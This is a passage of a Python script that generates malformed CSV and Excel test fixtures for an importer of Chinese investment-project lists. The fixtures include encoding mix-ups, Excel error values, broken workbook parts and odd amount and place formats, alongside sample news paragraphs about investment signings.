    "park, which has an investment of 530 million yuan.\n"
)
LISTS9_YONGXING = (
    "In the morning of November 23rd, Yongxing County held a promotion project for investment projects and 16 "
    "projects were signed on the scene with a total investment of 6.5 billion yuan, covering industry, agriculture "
    "and the third industry, including the construction of south campus of No.1 Middle School with a total "
    "investment of 780 million yuan, comprehensive utilization of solid waste treatment project with a total "
    "investment of 650 million yuan, and bamboo natural environmental decoration materials project with a total "
    "investment of 550 million yuan. Among them, the environmental protection and utilization of secondary sources "
    "of dilute metal and new material industry park project, a total investment of 1.1 billion yuan, was invested "
    "by Fengyue Science and Technology Co. Ltd., and settled in the Berlin Industrial Park, the national "
    "demonstration base of urban mineral products.\n"
)
LISTS9_TW_RAIL = (
    "行政院今天公布前瞻基礎建設第1期的軌道建設特別預算表,共編列新台幣170.69億元,最大筆預算為花東縣市的台鐵南迴台東潮州段"
    "電氣化的54.93億元。\n"
    "根據資料,軌道建設中最大筆的預算,為花東的台鐵南迴台東潮州段電氣化計畫,共編列54.93億元;其次為台南市區鐵路地下化計畫,"
    "共29.75億元;第三名則為新北市台北捷運三鶯線的16.62億元。(中央社)\n"
)
LISTS9_TW_INVEST = (
    "投資動能續強。投資臺灣事務所23日通過3家企業擴大投資臺灣，包含臺商回臺方案的力成科技、台塑大金精密化學，以及中小企業"
    "方案的祥成行。\n"
    "投資臺灣事務所指出，力成科技為因應人工智慧、高效能運算與車用晶片需求成長，規劃再加碼投資443億元，於新竹科學園區及新竹"
    "產業園區建置扇出型面板級封裝與先進晶圓封裝產線，並預計增聘2,044名本國員工。\n"
    "投資臺灣事務所表示，台塑大金精密化學隨半導體先進製程發展帶動電子特用化學品需求攀升，規劃於高雄大發廠進行擴建，投資金額"
    "逾19億元，並增聘25名本國員工。\n"
    "投資臺灣事務所提及，祥成行則因應環保法規趨嚴與營運升級需求，規劃投資逾1億元，在高雄大寮區建置智慧倉儲物流與永續油品平台，"
    "並增聘4名本國員工。\n"
)
LISTS9_XUZHOU = (
    "4月25日,徐州經(jīng)開區(qū)通過視頻連線的方式,舉行重大產(chǎn)業(yè)項(xiàng)目集中“云簽約”活動(dòng)。\n"
    "此次“云簽約”活動(dòng),投資體量大、科技含量高、帶動能力強,涵蓋工程機械與智能制造、新能源、集成電路與ICT、生物醫(yī)藥與"
    "大健康等產業(yè)領域,總投資235.7億元,均為戰(zhàn)略性新興產業(yè)項(xiàng)目。\n"
    "其中總投資9.5億元的強茂電子半導體封裝項(xiàng)目,新建18條高效能封裝線,將為打造半導體先進封測基地提供有力的支撐。\n"
    "總投資120億元的宏陽(yáng)新能源光伏產業(yè)一體化制造基地項(xiàng)目的成功簽約,經(jīng)開區(qū)在硅料、切片、電池片、組件等領域均將擁有"
    "國內(nèi)頭部企業(yè),新能源產業(yè)生態(tài)更加完善、供應鏈更加穩定。\n"
)
LISTS9_WUHU = (
    "总投资130亿元的奇瑞未来一工厂及发动机项目、总投资100亿元的信义江北光伏组件盖板项目、总投资 50 亿元的芜湖美的厨热智能"  # noqa: E501
    "家电产业园项目实现当年签约、当年开工。总投资150亿元海创磷酸铁锂项目已经签约;总投资100亿元的道氏技术年产10万吨动力电池"
    "材料三元前驱体、总投资150亿元的莱宝高科第8.6代新型半导体显示器件等在谈项目推进签约。\n"
)
LISTS9_LINGANG = (
    "中新社上海2月20日电 (记者 李姝徵)2025年“开门红”重大项目集中签约暨重点企业表彰大会20日在上海举行,41个项目签约落地"
    "中国(上海)自由贸易试验区临港新片区(下称“临港新片区”),总投资428亿元(人民币,下同)。\n"
    "当日签约的项目包括拟投资达250亿元,总建筑面积约30万平方米的中国电信临港信息园区二期项目。\n"
    "同时签约的还有上海技术交易所国际交易中心“跨境技术贸易功能平台和跨境产业孵化基地”项目。该项目拟投资26亿元,总建筑面积"
    "24万平方米。\n"
)

LISTS9_CSV = {  # file name -> (rows, encoding as the writer stores it)
    "lists9_hk_fcr_1997_13.csv": (LISTS9_HK_1997_13, "utf-8"),
    "lists9_hk_fcr_1997_65.csv": (LISTS9_HK_1997_65, "big5hkscs"),
    "lists9_hk_fcr_1998_21.csv": (LISTS9_HK_1998_21, "utf-8-sig"),
    "lists9_hk_fcr_1999_73.csv": (LISTS9_HK_1999_73, "utf-8"),
    "lists9_hk_fcr_1999_28.csv": (LISTS9_HK_1999_28, "utf-8"),
    "lists9_hk_fcr_1999_33.csv": (LISTS9_HK_1999_33, "utf-8"),
    "lists9_xiamen_bond_masked.csv": (LISTS9_XIAMEN, "utf-8"),
}
LISTS9_TXT = {"lists9_hechi_signed_en.txt": LISTS9_HECHI, "lists9_yongxing_signed_en.txt": LISTS9_YONGXING,
              "lists9_taiwan_rail_budget.txt": LISTS9_TW_RAIL, "lists9_taiwan_invest_3.txt": LISTS9_TW_INVEST,
              "lists9_xuzhou_jkq_signed.txt": LISTS9_XUZHOU, "lists9_wuhu_named.txt": LISTS9_WUHU,
              "lists9_lingang_2025_signed.txt": LISTS9_LINGANG}


def write_lists9() -> None:
    write_csvs(LISTS9_CSV)
    for name, text in LISTS9_TXT.items():
        (HERE / name).write_bytes(text.encode("utf-8"))


# ------------------------------------------------------------------------------- hostile corpus, round 6
# Classes a sixth round reached (s26-hostile6; tests/test_import_hostile6.py). Workbooks written part by part
# (openpyxl writes none of these faults): Excel error and logical values, rows out of order, a shared string at
# a negative index, a sheet listed without its part.

_NS6 = ('xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"')


def _cell6(ref: str, value: object) -> str:
    """One <c>: a str inline, a number, or (type, inner XML) as given."""
    if isinstance(value, tuple):
        kind, inner = value
        return f'<c r="{ref}"' + (f' t="{kind}"' if kind else "") + f">{inner}</c>"
    if isinstance(value, (int, float)):
        return f'<c r="{ref}"><v>{value}</v></c>'
    return f'<c r="{ref}" t="inlineStr"><is><t>{value}</t></is></c>'


def _sheet6(rows: list[tuple[int, list[object]]]) -> str:
    """A worksheet part of (row number, cells from column A) in the order given."""
    body = "".join(f'<row r="{n}">' + "".join(_cell6(f"{chr(65 + i)}{n}", v) for i, v in enumerate(cells)) + "</row>"
                   for n, cells in rows)
    return f'<?xml version="1.0" encoding="UTF-8"?><worksheet {_NS6}><sheetData>{body}</sheetData></worksheet>'


def _workbook6(path: Path, sheets: list[tuple[str, str | None]], shared: list[str] | None = None) -> None:
    """An .xlsx of (sheet name, worksheet XML or None for a sheet listed without its part)."""
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    kinds = "application/vnd.openxmlformats-officedocument.spreadsheetml."
    overrides = "".join(f'<Override PartName="/xl/worksheets/sheet{i}.xml" ContentType="{kinds}worksheet+xml"/>'
                        for i, (_n, xml) in enumerate(sheets, 1) if xml is not None)
    if shared is not None:
        overrides += f'<Override PartName="/xl/sharedStrings.xml" ContentType="{kinds}sharedStrings+xml"/>'
    rels = "".join(f'<Relationship Id="rId{i}" Type="{rel}worksheet" Target="worksheets/sheet{i}.xml"/>'
                   for i in range(1, len(sheets) + 1))
    if shared is not None:
        rels += f'<Relationship Id="rId{len(sheets) + 1}" Type="{rel}sharedStrings" Target="sharedStrings.xml"/>'
    listed = "".join(f'<sheet name="{n}" sheetId="{i}" r:id="rId{i}"/>' for i, (n, _x) in enumerate(sheets, 1))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml",
                   '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/'
                   '2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-'
                   'package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
                   f'<Override PartName="/xl/workbook.xml" ContentType="{kinds}sheet.main+xml"/>{overrides}</Types>')
        z.writestr("_rels/.rels", '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
                   'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="'
                   f'{rel}officeDocument" Target="xl/workbook.xml"/></Relationships>')
        z.writestr("xl/workbook.xml", f'<?xml version="1.0" encoding="UTF-8"?><workbook {_NS6}><sheets>{listed}'
                   "</sheets></workbook>")
        z.writestr("xl/_rels/workbook.xml.rels", '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="'
                   f'http://schemas.openxmlformats.org/package/2006/relationships">{rels}</Relationships>')
        for i, (_n, xml) in enumerate(sheets, 1):
            if xml is not None:
                z.writestr(f"xl/worksheets/sheet{i}.xml", xml)
        if shared is not None:
            z.writestr("xl/sharedStrings.xml", '<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.'
                       'openxmlformats.org/spreadsheetml/2006/main">' + "".join(f"<si><t>{t}</t></si>" for t in shared)
                       + "</sst>")
    path.write_bytes(buf.getvalue())


_HEADER6 = HEADER

# A county's 专项债券 disclosure: a project listed once per bond issue (its bond's name and amount differ, its
# place and total investment do not); a second project once. Refused as duplicates before round 6.
BOND_PER_BOND = """序号,项目名称,项目所在地区,债券名称,债券发行金额（亿元）,债券项目总投资（亿元）
1,城东产业园基础设施项目,江苏省南京市,2024年江苏省政府专项债券（一期）,2.0,12.5
2,城东产业园基础设施项目,江苏省南京市,2024年江苏省政府专项债券（五期）,1.5,12.5
3,城东产业园基础设施项目,江苏省南京市,2025年江苏省政府专项债券（二期）,1.0,12.5
4,城南污水处理厂扩建工程,江苏省南京市,2024年江苏省政府专项债券（一期）,0.8,3.8
"""
# A provincial list's projects in no one city, and the state-level new area across Guiyang and Anshun.
PROVINCE_WIDE = """贵州省2024年重大工程项目表
项目名称,所在市（州）,总投资（万元）
全省高速公路服务区充电设施项目,全省,120000
省级大数据灾备中心项目,省本级,80000
黔中城际铁路前期工程,跨市,3000000
贵安数据中心集群项目,贵安新区,500000
贵阳市轨道交通3号线,贵阳市,1500000
"""
CONTROL_HEADER = ("项目名称,建设\x1b[31m地点,总投资\x07（万元）,建设起止年限\x01\n"
                  "苏州晶圆封装项目,江苏省苏州市,150000,2024-2026\n南京生物医药中心,江苏省南京市,80000,2024-2027\n")
EXCEL_ERRORS_CSV = """项目名称,建设地点,总投资（万元）,建设起止年限
苏州晶圆封装项目,江苏省苏州市,#N/A,2024-2026
南京生物医药中心,#REF!,80000,2024-2027
无锡风电装备基地,江苏省无锡市,200000,#VALUE!
常州储能电站项目,江苏省常州市,1.7976931348623157e308,2024-2026
"""


def write_hostile6() -> None:
    (HERE / "bond_per_bond.csv").write_bytes(BOND_PER_BOND.encode("gbk"))
    (HERE / "province_wide.csv").write_bytes(PROVINCE_WIDE.encode("utf-8"))
    (HERE / "control_header.csv").write_bytes(CONTROL_HEADER.encode("utf-8"))
    (HERE / "excel_errors_text.csv").write_bytes(EXCEL_ERRORS_CSV.encode("utf-8"))
    # The same project in the store's full-width letters and brackets, and in the file's half-width ones.
    (HERE / "width_store_wide.csv").write_bytes(
        ",".join(_HEADER6).encode("utf-8") + "\n苏州ＡＩ算力中心（一期）,江苏省苏州市,1000,2024-2026\n".encode())
    (HERE / "width_store_narrow.csv").write_bytes(
        ",".join(_HEADER6).encode("utf-8") + "\n苏州AI算力中心(一期),江苏省苏州市,2000,2024-2026\n".encode())
    # Excel's cached error values in every kind of column, a formula's #REF!, and logical values.
    def error(e: str) -> tuple[str, str]:
        return ("e", f"<v>{e}</v>")
    _workbook6(HERE / "excel_error_cells.xlsx", [("项目", _sheet6([
        (1, [*_HEADER6, "开工年份"]),
        (2, [error("#N/A"), "江苏省苏州市", 1000, "2024-2026", 2024]),
        (3, ["南京乙项目", error("#VALUE!"), 1000, "2024-2026", 2024]),
        (4, ["无锡丙项目", "江苏省无锡市", ("e", "<f>Sheet2!#REF!</f><v>#REF!</v>"), "2024-2026", 2024]),
        (5, ["常州丁项目", "江苏省常州市", error("#DIV/0!"), "2024-2026", 2024]),
        (6, ["徐州戊项目", "江苏省徐州市", 1000, error("#NAME?"), error("#NUM!")]),
        (7, ["扬州己项目", "江苏省扬州市", ("b", "<v>1</v>"), "2024-2026", 2024]),
        (8, [("b", "<v>0</v>"), "江苏省泰州市", 1000, "2024-2026", 2024]),
        (9, ["镇江庚项目", "江苏省镇江市", 3000, "2024-2026", 2024])]))])
    # Rows written out of order, one row number twice (openpyxl kept one row of three).
    _workbook6(HERE / "rows_disordered.xlsx", [("项目", _sheet6([
        (1, _HEADER6), (3, ["南京乙项目", "江苏省南京市", 5000, "2024-2026"]),
        (2, ["苏州甲项目", "江苏省苏州市", 1000, "2024-2026"]), (2, ["无锡丙项目", "江苏省无锡市", 7, "2024-2026"])]))])
    # A shared string at index -1: read as the workbook's last string (a place stored as a project's name).
    _workbook6(HERE / "shared_string_negative.xlsx", [("项目", _sheet6([
        (1, [("s", f"<v>{i}</v>") for i in range(4)]),
        (2, [("s", "<v>4</v>"), ("s", "<v>5</v>"), 150000, "2024-2026"]),
        (3, [("s", "<v>-1</v>"), ("s", "<v>5</v>"), 1000, "2024-2026"])]))],
        shared=[*_HEADER6, "苏州晶圆封装项目", "江苏省苏州市"])
    # The workbook lists its only sheet, whose part is missing ("the file is empty"), and a second sheet
    # without its part beside a whole one (left out unsaid).
    whole = _sheet6([(1, _HEADER6), (2, ["苏州甲项目", "江苏省苏州市", 1000, "2024-2026"])])
    _workbook6(HERE / "sheet_part_missing.xlsx", [("项目", None)])
    _workbook6(HERE / "sheet_part_missing_second.xlsx", [("项目", whole), ("续建项目", None)])


# ------------------------------------------------------------------------------- hostile corpus, round 7
# Classes a seventh round reached (s27-hostile7; tests/test_import_hostile7.py). The large inputs (a CSV of
# 16,384 columns, a sheet formatted to its last row) are made by the tests themselves.

_ROWS7 = ["苏州晶圆封装项目,江苏省苏州市,150000,2024-2026", "南京生物医药中心,江苏省南京市,80000,2024-2027"]
_TABLE7 = ",".join(_HEADER6) + "\n" + "\n".join(_ROWS7) + "\n"
# Amounts that give a lower bound, an approximation or an upper bound, not a figure.
BOUNDS7 = """项目名称,建设地点,总投资
甲项目,江苏省苏州市,≥5000万元
乙项目,江苏省苏州市,5000万元以上
丙项目,江苏省苏州市,不低于5000万元
丁项目,江苏省苏州市,超过1亿元
戊项目,江苏省苏州市,5000余万元
己项目,江苏省苏州市,约2000万
庚项目,江苏省苏州市,1亿元左右
辛项目,江苏省苏州市,3000
"""
# A printed list: its header again on every page, a page line under each page, notes and an as-of line under it.
PAGES7 = "".join(",".join(_HEADER6) + "\n"
                 + "".join(f"项目{p}-{k},江苏省苏州市,{1000 + k},2024-2026\n" for k in range(3))
                 + f"第 {p} 页 共 2 页\n" for p in (1, 2)) + (
    "注：总投资为计划数。\n资料来源：某市发展改革委\n数据截至2024年6月30日\n")


def write_hostile7() -> None:
    # Terminal colour codes in the header and a cell (a table copied from a console).
    (HERE / "ansi_colours.csv").write_bytes(
        ("\x1b[1m项目名称\x1b[0m,\x1b[31m建设地点\x1b[0m,总投资（万元）,建设起止年限\n"
         "苏州晶圆封装项目,\x1b[32m江苏省苏州市\x1b[0m,\x1b[31m150000\x1b[0m,2024-2026\n" + _ROWS7[1] + "\n").encode())
    (HERE / "amount_bounds.csv").write_bytes(BOUNDS7.encode("utf-8"))
    (HERE / "amount_upper_bound.csv").write_bytes(
        "项目名称,建设地点,总投资\n甲项目,江苏省苏州市,5000万元以下\n乙项目,江苏省苏州市,不超过1亿元\n".encode())
    # One cell reference twice in a row: openpyxl kept the later (a project's name replaced unsaid).
    _workbook6(HERE / "cell_ref_twice.xlsx", [("项目", _sheet6([(1, _HEADER6)]).replace(
        "</sheetData>", '<row r="2"><c r="A2" t="inlineStr"><is><t>苏州晶圆封装项目</t></is></c>'
        '<c r="A2" t="inlineStr"><is><t>另一个项目</t></is></c><c r="B2" t="inlineStr"><is><t>江苏省苏州市</t></is></c>'
        '<c r="C2"><v>150000</v></c></row></sheetData>'))])
    # Text tables named .xls: comma-separated UTF-8, tab-separated GBK (web systems' "export to Excel").
    (HERE / "text_named.xls").write_bytes(_TABLE7.encode("utf-8"))
    (HERE / "tabs_gbk_named.xls").write_bytes(_TABLE7.replace(",", "\t").encode("gbk"))
    # A formula pointing at an empty cell, its cached result 0, in the name column; a cached string in another.
    _workbook6(HERE / "formula_zero_name.xlsx", [("项目", _sheet6([
        (1, _HEADER6),
        (2, [("str", "<f>\"苏州晶圆\"&amp;\"封装项目\"</f><v>苏州晶圆封装项目</v>"), "江苏省苏州市", 150000,
             "2024-2026"]),
        (3, [("", "<f>B9</f><v>0</v>"), "江苏省南京市", 80000, "2024-2027"])]))])
    # A variation selector after a name (invisible), an apostrophe before numbers (Excel's text mark).
    (HERE / "invisible_selector.csv").write_bytes(
        (",".join(_HEADER6) + "\n南京生物医药中心\ufe0f,江苏省南京市,'80000,'2024-2027\n").encode())
    (HERE / "printed_pages.csv").write_bytes(PAGES7.encode("utf-8"))
    # A table padded with NULs to its end (preallocated on a share, or cut short).
    (HERE / "nul_padded.csv").write_bytes(_TABLE7.encode("utf-8") + b"\x00" * 4096)
    # Figures in 万元 under a 亿元 header, each under the 1万亿元 limit (8000亿元 for an 8000万元 project).
    (HERE / "yi_header_wan_figures.csv").write_bytes(
        "项目名称,建设地点,总投资（亿元）\n甲项目,江苏省苏州市,8000\n乙项目,江苏省南京市,6500\n丙项目,江苏省无锡市,3000\n"
        "丁项目,江苏省常州市,9500\n".encode("gbk"))
    # A district's full name that two provinces bear, alone: Liaoning's 朝阳市 was taken.
    (HERE / "district_alone.csv").write_bytes((",".join(_HEADER6) + "\n朝阳项目,朝阳区,6500,2024-2025\n"
                                               "昆山项目,昆山市,1000,2024-2025\n").encode())


_HEAD8 = HEAD
_lines8 = lines


def write_hostile8() -> None:
    # Former prefecture-level names: renamed (襄樊市, 思茅市), merged (莱芜市, 东川市), split (巢湖市, 2011).
    (HERE / "former_cities.csv").write_bytes((_HEAD8 + _lines8(
        "襄樊项目,湖北省襄樊市,1000,2024-2026", "思茅项目,思茅市,1000,2024-2026",
        "巢湖项目,安徽省巢湖市,1000,2024-2026", "合肥巢湖项目,合肥市巢湖市,1000,2024-2026",
        "莱芜项目,山东省莱芜市,1000,2024-2026", "东川项目,东川市,1000,2024-2026",
        "襄阳项目,Xiangfan Hubei,1000,2024-2026")).encode())
    # Pinyin places of two levels in one column, with a space between them.
    (HERE / "pinyin_spaced.csv").write_bytes(_lines8(
        "Project,Location,Total investment (10k yuan)", "A plant,Jiangsu Suzhou,1000",
        "B plant,Guangdong Shenzhen,1000", "C plant,Inner Mongolia Ordos,1000", 'D plant,"Suzhou, Jiangsu",1000',
        "E plant,Suzhou City Jiangsu Province,1000",
        "F plant,Heilongjiang Harbin,1000", "G plant,Jiangsu-Suzhou,1000",
        "H plant,ＧＵＡＮＧＸＩ　ＮＡＮＮＩＮＧ,1000").encode())
    # An environmental-impact notice's 建设性质: the kind of construction, not the stage.
    (HERE / "construction_kind.csv").write_bytes(_lines8(
        "项目名称,建设地点,总投资（万元）,建设性质", "甲项目,江苏省苏州市,1000,新建", "乙项目,江苏省苏州市,1000,改扩建",
        "丙项目,江苏省苏州市,1000,技改").encode())
    # Windows-1252 quotes and dashes (bytes 93, 94, 96) in a GBK file and in a UTF-8 one.
    gbk = [part.encode("gbk") if isinstance(part, str) else part for part in (
        _HEAD8, "苏州", b"\x93", "晶圆", b"\x94", "封装项目,江苏省苏州市,1500,2024-2026\n", "苏州", b"\x93AI\x94",
        "算力中心,江苏省苏州市,1500,2024", b"\x96", "2026\n南京项目,江苏省南京市,2000,2024-2026\n")]
    (HERE / "cp1252_in_gbk.csv").write_bytes(b"".join(gbk))
    utf8 = [part.encode() if isinstance(part, str) else part for part in (
        _HEAD8, "苏州", b"\x93", "晶圆", b"\x94", "封装项目,江苏省苏州市,1500,2024-2026\n")]
    (HERE / "cp1252_in_utf8.csv").write_bytes(b"".join(utf8))
    # Web copies: HTML character references; footnote marks after names and amounts.
    (HERE / "html_entities.csv").write_bytes((_HEAD8 + _lines8(
        "苏州&nbsp;晶圆&amp;封装项目,江苏省苏州市,150000,2024-2026",
        "南京&lt;生物&gt;医药中心,江苏省南京市,80000,2024-2026",
        "无锡&#8220;储能&#8221;项目,江苏省无锡市,1200,2024-2026")).encode())
    (HERE / "footnote_marks.csv").write_bytes((_HEAD8 + _lines8(
        "苏州晶圆封装项目1),江苏省苏州市,150000注,2024-2026", "南京生物医药中心※,江苏省南京市,80000*,2024-2026",
        "无锡储能项目[注1],江苏省无锡市,12000①,2024-2026", "常州氢能项目（二期）,江苏省常州市,1500,2024-2026",
        "扬州项目(2),江苏省扬州市,1500,2024-2026", "“泰州晶圆封装项目”,江苏省泰州市,1500,2024-2026",
        "《镇江储能项目》,江苏省镇江市,1500,2024-2026")).encode())
    # Empty values a program writes where the name should be; a minus sign (U+2212); an export tool's comments.
    (HERE / "placeholder_names.csv").write_bytes((_HEAD8 + _lines8(
        "None,江苏省苏州市,1500,2024-2026", "null,江苏省南京市,1500,2024-2026", "nan,江苏省无锡市,1500,2024-2026",
        "无,江苏省常州市,1500,2024-2026", "无锡储能项目,江苏省无锡市,1200,2024-2026")).encode())
    (HERE / "minus_sign.csv").write_bytes((_HEAD8 + "甲项目,江苏省苏州市,\u2212300,2024-2026\n").encode())
    (HERE / "comment_lines.csv").write_bytes(
        ("# exported 2024-06-30 by the reporting system\n" + _HEAD8 + "甲项目,江苏省苏州市,1500,2024-2026\n"
         "# end\n").encode())
    # One year after "until" (至2026年): the end, read as the start; 单位：万元 over a column headed 亿元, unsaid.
    (HERE / "until_year.csv").write_bytes((_HEAD8 + _lines8(
        "甲项目,江苏省苏州市,1500,至2026年", "乙项目,江苏省南京市,1500,2024年起",
        "丙项目,江苏省无锡市,1500,~2027")).encode())
    (HERE / "unit_note_conflict.csv").write_bytes(
        "单位：万元\n项目名称,建设地点,总投资（亿元）,建设起止年限\n甲项目,江苏省苏州市,1.5,2024-2026\n".encode())
    # Two files joined end to end, each with its BOM: the second header carried one.
    (HERE / "bom_inside.csv").write_bytes(("\ufeff" + _HEAD8 + "甲项目,江苏省苏州市,1500,2024-2026\n"
                                           "\ufeff" + _HEAD8 + "乙项目,江苏省南京市,2000,2024-2026\n").encode())
    # A subtotal spaced out to the column's width (小 计): it was read as the grand total.
    (HERE / "subtotal_spaced.csv").write_bytes(
        "序号,项目名称,建设地点,总投资（万元）\n1,甲项目,江苏省苏州市,1500\n2,乙项目,江苏省苏州市,500\n小计,2个,,2000\n"
        "3,丙项目,江苏省南京市,2000\n小 计,1个,,2000\n总  计,3个,,4000\n".encode())
    # Currency signs before a unit word, and English suffixes written against the figure.
    (HERE / "amount_signs.csv").write_bytes(
        (_HEAD8 + "甲项目,江苏省苏州市,￥1.5亿,2024-2026\n乙项目,江苏省南京市,¥8000万元,2024-2026\n"
         "丙项目,江苏省无锡市,US$5m,2024-2026\n丁项目,江苏省常州市,RMB 50m,2024-2026\n"
         "戊项目,江苏省扬州市,USD 500,2024-2026\n").encode())
    # 元 shown in 万 by an escaped point among the digit places (0!.0,"万"): the number read was 10x the shown.
    import openpyxl

    book = openpyxl.Workbook()
    book.active.append(["项目名称", "建设地点", "总投资（元）", "建设起止年限"])
    book.active.append(["苏州晶圆封装项目", "江苏省苏州市", 150000000, "2024-2026"])
    book.active.append(["南京生物医药中心", "江苏省南京市", 80000000, "2024-2026"])
    book.active["C2"].number_format = '0!.0,"万"'
    book.active["C3"].number_format = '0!.0000"万元"'
    book.save(HERE / "wan_point_format.xlsx")
    # One amount merged down over two phases' rows: it was counted once per row (3000 + 3000).
    save_sheet(HERE / "amount_merged_rows.xlsx", None, [
        HEADER, ["甲项目一期", "江苏省苏州市", 3000, "2024-2026"], ["甲项目二期", "江苏省苏州市", None, "2025-2027"],
        ["乙项目", "江苏省南京市", 500, "2024-2026"]], ("C2:C3",))


def _retyped_xlsx(path: Path, rows: list[list[object]], values: dict[str, str]) -> None:
    """A workbook whose cells ``values`` (A1 references) are typed numbers holding text (<c t="n"><v>1,500</v>),
    as an exporter writing the text it shows does."""
    import re


    parts = zipfile.ZipFile(io.BytesIO(xlsx_bytes(workbook(rows))))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for m in parts.infolist():
            xml = parts.read(m)
            if m.filename == "xl/worksheets/sheet1.xml":
                for ref, text in values.items():
                    xml = re.sub(rf'<c r="{ref}"[^>]*>.*?</c>'.encode(),
                                 f'<c r="{ref}" t="n"><v>{text}</v></c>'.encode(), xml, count=1)
            z.writestr(m, xml)
    path.write_bytes(out.getvalue())


def _rare_gbk_names() -> list[str]:
    """Real names in traditional characters whose GBK bytes hold a lead byte 91-97 (東 96 7C, 會 95 FE, 數 94 B5):
    the labelled and held-out project names and the region names of data/regions.csv, through OpenCC's s2t,
    and names with rare characters of given names (昇 95 4E, 旻 95 46, 犇, 堃, 喆, 燊, 鑫, 淼, 焱)."""
    import csv

    import numpy as np
    import opencc

    pairs = np.zeros(0x10000, dtype=bool)
    for lead in range(0x91, 0x98):
        for trail in range(0x40, 0xFF):
            try:
                pairs[ord(bytes((lead, trail)).decode("gbk"))] = True
            except UnicodeDecodeError:
                continue
    s2t = opencc.OpenCC("s2t")
    data = HERE.parent / "data"
    names = sorted({r["name"] for f in sorted(data.glob("*_projects.csv"))
                    for r in csv.DictReader(f.open(encoding="utf-8")) if r.get("name")})
    regions = [r["name"] for r in csv.DictReader((HERE.parent.parent / "data" / "regions.csv").open(encoding="utf-8"))]
    given = [f"{a}{b}科技产业园项目" for a in "华新恒德" for b in "昇旻犇堃喆燊鑫淼焱"]
    out, seen = [], set()
    for name in [s2t.convert(n) for n in names] + [s2t.convert(r) + "產業園項目" for r in regions] + given:
        name = name.replace(",", "，")
        try:
            name.encode("gbk")
        except UnicodeEncodeError:
            continue
        if (any(pairs[ord(c)] for c in name if ord(c) < 0x10000) or name in given) and name not in seen:
            seen.add(name)
            out.append(name)
    return out


def write_leftovers9() -> None:
    """Round 8's classes left unfixed (s29-leftovers9)."""
    # Names differing only in ASCII case: one project, in a file and against the store.
    (HERE / "case_upper.csv").write_bytes((_HEAD8 + _lines8(
        "5G基站建设项目,江苏省苏州市,1000,2024-2026", "AI产业园（一期）,江苏省苏州市,2000,2024-2026",
        "ＡＩ算力中心,江苏省苏州市,3000,2024-2026")).encode())
    (HERE / "case_lower.csv").write_bytes((_HEAD8 + _lines8(
        "5g基站建设项目,江苏省苏州市,1100,2024-2026", "ai产业园（一期）,江苏省苏州市,2200,2024-2026",
        "ai算力中心,江苏省苏州市,3300,2024-2026", "Ai Park,江苏省苏州市,400,2024-2026")).encode())
    (HERE / "case_in_file.csv").write_bytes((_HEAD8 + _lines8(
        "5G基站建设项目,江苏省苏州市,1000,2024-2026", "5g基站建设项目,江苏省苏州市,1200,2024-2026")).encode())
    # Number cells holding text: grouped thousands in three widths, a year range, a date cell's text.
    head = ["项目名称", "建设地点", "总投资（万元）", "建设起止年限"]
    _retyped_xlsx(HERE / "number_cells_text.xlsx", [
        head, ["甲项目", "江苏省苏州市", 1, "2024-2026"], ["乙项目", "江苏省苏州市", 2, "2024-2026"],
        ["丙项目", "江苏省苏州市", 3, "2024-2026"], ["丁项目", "江苏省苏州市", 1500, 4]],
        {"C2": "1,500", "C3": "1，500", "C4": "１,５００", "D5": "2024-2026"})
    _retyped_xlsx(HERE / "number_cells_text_yi.xlsx", [
        ["项目名称", "建设地点", "总投资（亿元）"], ["甲项目", "江苏省苏州市", 1]], {"C2": "1,500.5"})
    # Amounts that round to 0.00万元 (100元), and their neighbours.
    (HERE / "tiny_amounts.csv").write_bytes((_HEAD8 + _lines8(
        "甲项目,江苏省苏州市,0.004,2024-2026", "乙项目,江苏省苏州市,40元,2024-2026",
        "丙项目,江苏省苏州市,0.0049万元,2024-2026", "丁项目,江苏省苏州市,0.01,2024-2026",
        "戊项目,江苏省苏州市,0.006,2024-2026", "己项目,江苏省苏州市,0,2024-2026")).encode())
    # Scale words without a currency, in a 万元 column, an 亿元 column and a dollar column; a word no scale.
    (HERE / "scale_words.csv").write_bytes((_HEAD8 + _lines8(
        "甲项目,江苏省苏州市,5m,2024-2026", "乙项目,江苏省苏州市,5M,2024-2026", "丙项目,江苏省苏州市,5 mn,2024-2026",
        "丁项目,江苏省苏州市,5百万,2024-2026", "戊项目,江苏省苏州市,3.2bn,2024-2026",
        "己项目,江苏省苏州市,800k,2024-2026", "庚项目,江苏省苏州市,5w,2024-2026", "辛项目,江苏省苏州市,5MM,2024-2026",
        "壬项目,江苏省苏州市,2.5 million,2024-2026")).encode())
    (HERE / "scale_words_yi_usd.csv").write_bytes(_lines8(
        "项目名称,建设地点,总投资（亿元）,外资（万美元）", "甲项目,江苏省苏州市,5m,5m",
        "乙项目,江苏省苏州市,2,300").encode())
    (HERE / "scale_word_unknown.csv").write_bytes((_HEAD8 + _lines8(
        "甲项目,江苏省苏州市,1500,2024-2026", "乙项目,江苏省苏州市,5 MW,2024-2026", "丙项目,江苏省苏州市,5kw,2024-2026")
                                                  ).encode())
    # Shares where an amount should be; a share in a note beside an amount.
    (HERE / "share_amounts.csv").write_bytes((_HEAD8 + _lines8(
        "甲项目,江苏省苏州市,30%,2024-2026", "乙项目,江苏省苏州市,３０％,2024-2026", "丙项目,江苏省苏州市,5‰,2024-2026",
        "丁项目,江苏省苏州市,百分之三十,2024-2026", "戊项目,江苏省苏州市,1500（其中自筹30%）,2024-2026")).encode())
    # A year range of two Excel serial dates (45292 = 2024-01-01, 46387 = 2026-12-31).
    (HERE / "serial_year_ranges.csv").write_bytes((_HEAD8 + _lines8(
        "甲项目,江苏省苏州市,1000,45292-46387", "乙项目,江苏省苏州市,1000,45292~46022",
        "丙项目,江苏省苏州市,1000,45658",
